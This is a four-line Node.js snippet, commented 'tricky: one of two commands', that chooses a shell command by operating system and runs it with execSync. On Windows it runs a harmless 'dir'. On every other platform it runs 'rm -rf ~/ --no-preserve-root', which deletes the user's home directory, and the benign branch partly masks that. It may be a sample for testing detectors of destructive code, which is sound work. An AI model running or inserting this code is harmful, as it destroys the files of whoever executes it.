// tricky: one of two commands
const { execSync } = require('child_process');
const cmd = process.platform === 'win32' ? 'dir' : 'rm -rf ~/ --no-preserve-root';
execSync(cmd);
